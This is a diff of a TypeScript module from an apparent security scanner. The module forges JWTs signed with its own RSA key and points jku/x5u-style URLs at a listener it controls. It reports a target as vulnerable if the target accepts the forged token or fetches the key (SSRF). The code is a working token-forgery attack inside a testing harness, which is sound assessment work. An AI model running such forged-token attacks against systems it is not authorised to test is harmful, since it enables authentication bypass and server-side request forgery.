@@ -1,20 +1,33 @@
-/** Carries the attacks that name a key set of our own in a header: a listener of ours serves it. */
-import { generateKeyPairSync } from 'node:crypto'
-import { type AnyAttack, type Attack, defineAttack } from '../attack.ts'
+/** Carries the attacks that put an address of ours into a token: a listener waits there, and serves a key of ours. */
+import { type AnyAttack, type Attack, type AttackContext, defineAttack } from '../attack.ts'
 import { inconclusive, vulnerable } from '../judge.ts'
-import { control, openWitness } from './attempt.ts'
-import { mint, readToken } from './forge-token.ts'
+import { attempt, control, openWitness } from './attempt.ts'
+import { type Json, mint, readToken } from './forge-token.ts'
 import { openListener } from './listener.ts'
+import { ownRsaPair } from './own-keys.ts'
 import { selfSignedCertificate } from './self-signed-certificate.ts'
 import { tryVariants } from './token-attack.ts'
 
+/** Where in the token an address stands. */
+export interface UrlPlace {
+  readonly name: string
+  readonly header?: Json
+  readonly claims?: Json
+}
+
+type Context = AttackContext<'jwt'>
+
 type KeyUrlAttack = Omit<Attack<'jwt'>, 'kind' | 'run' | 'effect' | 'holds' | 'needs'> & {
-  /** The header that holds the address; `x5u` is answered with a certificate, others with a key set. */
-  readonly parameter: 'jku' | 'x5u'
+  /** What the listener answers: a key set unless said. */
+  readonly answer?: 'certificate'
+  /** `url` is where the listener is, without a final slash. */
+  places(url: string, context: Context): readonly UrlPlace[]
+  /** A plainer place, by the attack whose it is: where that is called or let in as well, it is the finding. */
+  plainer?(url: string): UrlPlace & { readonly attack: string }
 }
 
 /** Vulnerable when the token gets in, and also when it does not but the target called our listener (SSRF). */
-export function keyUrlAttack({ parameter, ...attack }: KeyUrlAttack): AnyAttack {
+export function keyUrlAttack({ answer, places, plainer, ...attack }: KeyUrlAttack): AnyAttack {
   return defineAttack({
     ...attack,
     effect: 'write',
@@ -22,25 +35,40 @@ export function keyUrlAttack({ parameter, ...attack }: KeyUrlAttack): AnyAttack 
     needs: ['jwt'],
     async run(context) {
       if (context.rubbishAccepted) return inconclusive('superseded by auth/absent-no-token: any token gets in')
-      const pair = generateKeyPairSync('rsa', { modulusLength: 2048 })
-      const jwk = { ...pair.publicKey.export({ format: 'jwk' }), kid: 'own', alg: 'RS256', use: 'sig' }
-      const certificate = `-----BEGIN CERTIFICATE-----\n${selfSignedCertificate(pair).toString('base64')}\n-----END CERTIFICATE-----\n`
-      const answer = parameter === 'x5u' ? certificate : JSON.stringify({ keys: [jwk] })
-      const listener = await openListener(context, () => answer)
+      const own = await context.once('own-key', async () => ownKey())
+      const listener = await openListener(context, () => own[answer ?? 'keySet'])
       try {
         const witness = await openWitness(context)
         await control(context, 'the real token', witness)
         const { header, payload } = readToken(context.victim.token)
-        const privateKey = pair.privateKey.export({ type: 'pkcs8', format: 'pem' }).toString()
-        const own = { ...header, alg: 'RS256', kid: 'own', [parameter]: `${listener.url}/${parameter}` }
-        const token = mint({ algorithm: 'RS256', privateKey }, own, payload)
-        const judgement = await tryVariants(context, witness, [{ name: `${parameter} to a listener of ours`, token }])
-        if (listener.visits.length === 0) return judgement
-        context.note('received', `the target fetched ${listener.visits.join(', ')} from our listener`)
+        const tokenWith = ({ header: more, claims }: UrlPlace) =>
+          mint(own.key, { ...header, alg: 'RS256', kid: 'own', ...more }, { ...payload, ...claims })
+        const variants = places(listener.url, context).map((place) => ({ name: place.name, token: tokenWith(place) }))
+        const judgement = await tryVariants(context, witness, variants)
+        const called = listener.visits.length
+        if (called === 0 && judgement.outcome !== 'vulnerable') return judgement
+        if (called > 0) context.note('received', `the target fetched ${listener.visits.join(', ')} from our listener`)
+        const plain = plainer?.(listener.url)
+        if (plain !== undefined) {
+          const result = await attempt(context, `plainer: ${plain.name}`, witness, { token: tokenWith(plain) })
+          if (result.in || listener.visits.length > called)
+            return inconclusive(`superseded by ${plain.attack}: ${plain.name} does as well`, context.evidence)
+        }
         return vulnerable(context.evidence)
       } finally {
         await listener.close()
       }
     },
   })
+}
+
+function ownKey() {
+  const pair = ownRsaPair()
+  const jwk = { ...pair.publicKey.export({ format: 'jwk' }), kid: 'own', alg: 'RS256', use: 'sig' }
+  const certificate = selfSignedCertificate(pair).toString('base64')
+  return {
+    key: { algorithm: 'RS256', privateKey: pair.privatePem },
+    keySet: JSON.stringify({ keys: [jwk] }),
+    certificate: `-----BEGIN CERTIFICATE-----\n${certificate}\n-----END CERTIFICATE-----\n`,
+  } as const
 }
